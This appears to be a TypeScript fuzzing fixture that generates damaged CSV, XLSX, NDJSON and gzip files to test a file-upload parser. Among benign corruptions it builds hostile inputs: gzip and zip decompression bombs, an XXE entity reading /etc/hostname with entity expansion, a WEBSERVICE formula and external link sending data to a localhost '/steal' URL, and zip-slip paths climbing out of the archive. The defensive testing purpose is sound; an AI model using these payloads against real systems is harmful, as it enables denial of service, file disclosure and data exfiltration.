import { deflateRawSync, gzipSync } from 'node:zlib';
import iconv from 'iconv-lite';

/** A damaged file, its family as a sender would name it, and how it was damaged. */
export interface Malformed {
  readonly name: string;
  readonly damage: string;
  readonly content: Buffer;
}

/** Mulberry32: equal seeds give equal files on every machine. */
export function dice(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = Math.imul(state ^ (state >>> 15), state | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 2 ** 32;
  };
}

const HEADER = ['订单编号', '明细行号', '会员编号', '下单时间', '消费类别', '成交金额', '核销区划', '备注'];

type Roll = () => number;
const below = (roll: Roll, n: number): number => Math.floor(roll() * n);
const pick = <T>(roll: Roll, from: readonly [T, ...T[]]): T => from[below(roll, from.length)] ?? from[0];

function rowsOf(roll: Roll): string[][] {
  return Array.from({ length: 5 + below(roll, 60) }, (_, i) => [
    `DD${i}`,
    '1',
    `HY${below(roll, 50)}`,
    `2026-0${1 + below(roll, 9)}-1${below(roll, 9)} 10:00:00`,
    `0${1 + below(roll, 8)}`,
    (below(roll, 100_000) / 100).toFixed(2),
    '510100',
    pick(roll, ['', '样例', 'a,b', '行一\n行二', '"引号"']),
  ]);
}

const cell = (text: string): string => (/[",\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text);
const csvOf = (rows: readonly (readonly string[])[], header: readonly string[] = HEADER): string =>
  [header, ...rows].map((row) => row.map(cell).join(',')).join('\n');
const ndjsonOf = (rows: readonly (readonly string[])[]): string =>
  rows.map((row) => JSON.stringify(Object.fromEntries(HEADER.map((h, i) => [h, row[i]])))).join('\n');

interface Part {
  readonly name: string;
  readonly content: Buffer;
  /** What the directory says the part inflates to, if not the truth. */
  readonly claims?: number;
}

/** A ZIP archive byte by byte, so that it may lie. */
export function zipOf(parts: readonly Part[]): Buffer {
  const bodies: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const { name, content, claims } of parts) {
    const packed = deflateRawSync(content);
    const path = Buffer.from(name);
    const common = Buffer.alloc(26);
    common.writeUInt16LE(20, 0);
    common.writeUInt16LE(0x0800, 2);
    common.writeUInt16LE(8, 4);
    common.writeUInt32LE(crc32(content), 10);
    common.writeUInt32LE(packed.length, 14);
    common.writeUInt32LE(claims ?? content.length, 18);
    common.writeUInt16LE(path.length, 22);
    const local = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), common, path, packed]);
    directory.push(Buffer.concat([Buffer.from('PK\x01\x02\x14\x00', 'latin1'), common, tail(offset), path]));
    bodies.push(local);
    offset += local.length;
  }
  const central = Buffer.concat(directory);
  const end = Buffer.alloc(18);
  end.writeUInt16LE(parts.length, 4);
  end.writeUInt16LE(parts.length, 6);
  end.writeUInt32LE(central.length, 8);
  end.writeUInt32LE(offset, 12);
  return Buffer.concat([...bodies, central, Buffer.from('PK\x05\x06', 'latin1'), end]);
}

/** The fields of a directory entry behind those it shares with the local header. */
function tail(offset: number): Buffer {
  const rest = Buffer.alloc(14);
  rest.writeUInt32LE(offset, 10);
  return rest;
}

const CRC = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
const crc32 = (bytes: Buffer): number => {
  let c = 0xffffffff;
  for (const byte of bytes) c = (CRC[(c ^ byte) & 0xff] ?? 0) ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
};

const escapeXml = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');

function sheetXml(rows: readonly (readonly string[])[], extra = ''): string {
  const body = rows
    .map(
      (row, r) =>
        `<row r="${r + 1}">${row.map((t) => `<c t="inlineStr"><is><t>${escapeXml(t)}</t></is></c>`).join('')}</row>`,
    )
    .join('');
  return `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${body}</sheetData>${extra}</worksheet>`;
}

function bookParts(sheet: string, more: readonly Part[] = []): Part[] {
  const rel = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const text = (name: string, xml: string): Part => ({ name, content: Buffer.from(xml) });
  return [
    text(
      '[Content_Types].xml',
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
    ),
    text(
      '_rels/.rels',
      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    ),
    text(
      'xl/workbook.xml',
      `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${rel}"><sheets><sheet name="s" sheetId="1" r:id="s1"/></sheets></workbook>`,
    ),
    text(
      'xl/_rels/workbook.xml.rels',
      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="s1" Type="${rel}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
    ),
    text('xl/worksheets/sheet1.xml', sheet),
    ...more,
  ];
}

const xlsxOf = (rows: readonly (readonly string[])[]): Buffer =>
  zipOf(bookParts(sheetXml([HEADER, ...rows])));

const noise = (roll: Roll, bytes: number): Buffer =>
  Buffer.from(Array.from({ length: bytes }, () => below(roll, 256)));

/** Overwrites, removes or repeats a stretch somewhere in the file. */
function bitten(roll: Roll, content: Buffer): Buffer {
  const at = below(roll, content.length);
  const length = 1 + below(roll, 64);
  const middle = pick<() => Buffer>(roll, [
    () => noise(roll, length),
    () => Buffer.alloc(length),
    () => Buffer.alloc(0),
    () => content.subarray(at, at + length * 3),
  ]);
  return Buffer.concat([content.subarray(0, at), middle(), content.subarray(at + length)]);
}

type Maker = (roll: Roll) => Omit<Malformed, 'damage'>;

/** What can be wrong with a file, each as often as the others. */
const DAMAGES: Readonly<Record<string, Maker>> = {
  'cut off': (roll) => {
    const [name, whole] = formatted(roll);
    return { name, content: whole.subarray(0, below(roll, whole.length)) };
  },
  'bytes overwritten': (roll) => {
    const [name, whole] = formatted(roll);
    return { name, content: bitten(roll, bitten(roll, whole)) };
  },
  'random bytes': (roll) => ({
    name: `x.${pick(roll, ['csv', 'xlsx', 'parquet', 'ndjson', 'csv.gz', 'json'])}`,
    content: noise(roll, below(roll, 5000)),
  }),
  'random bytes behind a true beginning': (roll) => {
    const [name, whole] = formatted(roll);
    return { name, content: Buffer.concat([whole.subarray(0, 200), noise(roll, 2000)]) };
  },
  'ten thousand columns': (roll) => {
    const wide = Array.from({ length: 10_000 }, (_, i) => `列${i}`);
    const known = roll() < 0.5;
    return {
      name: 'wide.csv',
      content: Buffer.from(csvOf([wide.map(String)], known ? [...HEADER, ...wide] : wide)),
    };
  },
  'a cell of ten megabytes': (roll) => {
    const rows = rowsOf(roll);
    const row = rows[below(roll, rows.length)];
    if (row) row[pick(roll, [0, 5, 7])] = '长'.repeat(3_500_000);
    return { name: 'long.csv', content: Buffer.from(csvOf(rows)) };
  },
  'a quote that does not close': (roll) => {
    const lines = csvOf(rowsOf(roll)).split('\n');
    const at = 1 + below(roll, lines.length - 1);
    lines[at] = `${(lines[at] ?? '').slice(0, 4)}"${(lines[at] ?? '').slice(4)},"未闭合`;
    return { name: 'quotes.csv', content: Buffer.from(lines.join('\n')) };
  },
  'NUL bytes': (roll) => {
    const text = csvOf(rowsOf(roll)).split('');
    for (let i = 0; i < 20; i++) text[below(roll, text.length)] = '\0';
    return { name: 'nul.csv', content: Buffer.from(text.join('')) };
  },
  'too many and too few cells': (roll) => ({
    name: 'ragged.csv',
    content: Buffer.from(
      csvOf(
        rowsOf(roll).map((row) =>
          roll() < 0.3 ? row.slice(0, below(roll, 8)) : roll() < 0.3 ? [...row, 'x', 'y'] : row,
        ),
      ),
    ),
  }),
  'lone carriage returns and mixed line ends': (roll) => ({
    name: 'ends.csv',
    content: Buffer.from(csvOf(rowsOf(roll)).replace(/\n/g, () => pick(roll, ['\n', '\r\n', '\r', '\n\n']))),
  }),
  'two encodings in one file': (roll) => ({
    name: 'mixed.csv',
    content: Buffer.concat([
      Buffer.from(csvOf(rowsOf(roll))),
      iconv.encode(`\nDD,1,H,2026-01-01,食品,1,成都,备注`, 'gb18030'),
    ]),
  }),
  'GB18030 with a broken sequence': (roll) => ({
    name: 'gb.csv',
    content: bitten(roll, iconv.encode(csvOf(rowsOf(roll)), 'gb18030')),
  }),
  'a gzip bomb': (roll) => ({
    name: 'bomb.csv.gz',
    content: gzipSync(
      Buffer.concat([
        Buffer.from(`${HEADER.join(',')}\n`),
        Buffer.alloc((300 + below(roll, 40)) * 2 ** 20, roll() < 0.5 ? 0 : 0x2c),
      ]),
    ),
  }),
  'a workbook that is a bomb': (roll) => ({
    name: 'bomb.xlsx',
    content: zipOf(
      bookParts('', []).map((part) =>
        part.name.endsWith('sheet1.xml')
          ? {
              ...part,
              content: Buffer.alloc((120 + below(roll, 40)) * 2 ** 20, 0x20),
              claims: roll() < 0.5 ? 1000 : undefined,
            }
          : part,
      ),
    ),
  }),
  'a workbook with links to elsewhere': (roll) => ({
    name: 'links.xlsx',
    content: zipOf(
      bookParts(sheetXml([HEADER, ...rowsOf(roll)]), [
        {
          name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
          content: Buffer.from(
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="x" Target="http://127.0.0.1:9/steal" TargetMode="External"/></Relationships>',
          ),
        },
      ]),
    ),
  }),
  'a workbook with formulas': (roll) => {
    const sheet = sheetXml([HEADER, ...rowsOf(roll)]).replace(
      '<c t="inlineStr"><is><t>DD1</t></is></c>',
      `<c t="str"><f>WEBSERVICE("http://127.0.0.1:9/"&amp;A1)</f><v>${pick(roll, ['DD1', '', '#REF!'])}</v></c>`,
    );
    return { name: 'formulas.xlsx', content: zipOf(bookParts(sheet)) };
  },
  'a workbook with entities': (roll) => {
    const sheet = `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/hostname">]>${sheetXml([HEADER, ...rowsOf(roll)]).replace('DD1', '&b;&c;')}`;
    return { name: 'entities.xlsx', content: zipOf(bookParts(sheet)) };
  },
  'a workbook whose parts climb out of it': (roll) => ({
    name: 'climb.xlsx',
    content: zipOf(
      bookParts(sheetXml([HEADER, ...rowsOf(roll)]), [
        { name: '../../../../tmp/thermometer-climbed.txt', content: Buffer.from('out') },
      ]),
    ),
  }),
  'a workbook without its sheet': (roll) => ({
    name: 'empty.xlsx',
    content: zipOf(bookParts(sheetXml(rowsOf(roll))).filter(() => roll() > 0.25)),
  }),
  'broken JSON lines': (roll) => ({
    name: 'x.ndjson',
    content: Buffer.from(ndjsonOf(rowsOf(roll)).replace(/[{}":]/g, (mark) => (roll() < 0.03 ? '' : mark))),
  }),
  'JSON too deep': (roll) => ({
    name: 'deep.ndjson',
    content: Buffer.from(`${ndjsonOf(rowsOf(roll))}\n${'{"订单编号":'.repeat(20_000)}1${'}'.repeat(20_000)}`),
  }),
  'a name with steps up': (roll) => ({
    name: `..${below(roll, 9)}..csv`,
    content: Buffer.from(csvOf(rowsOf(roll))),
  }),
  'a name that lies': (roll) => {
    const [, whole] = formatted(roll);
    return { name: `x.${pick(roll, ['csv', 'xlsx', 'parquet', 'ndjson', 'json', 'txt'])}`, content: whole };
  },
};

function formatted(roll: Roll): [name: string, content: Buffer] {
  const rows = rowsOf(roll);
  return pick<() => [string, Buffer]>(roll, [
    () => ['x.csv', Buffer.from(csvOf(rows))],
    () => ['x.csv.gz', gzipSync(csvOf(rows))],
    () => ['x.xlsx', xlsxOf(rows)],
    () => ['x.ndjson', Buffer.from(ndjsonOf(rows))],
    () => ['x.csv', iconv.encode(csvOf(rows), 'gb18030')],
    () => ['x.csv', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(csvOf(rows), 'utf16le')])],
  ])();
}

export const DAMAGE_KINDS = Object.keys(DAMAGES);

/** File number `i` of a seed; the kinds take turns. */
export function malformed(seed: number, i: number): Malformed {
  const damage = DAMAGE_KINDS[i % DAMAGE_KINDS.length] ?? '';
  const make = DAMAGES[damage];
  if (!make) throw new Error(`no damage number ${i}`);
  return { damage, ...make(dice(seed * 1_000_003 + i)) };
}
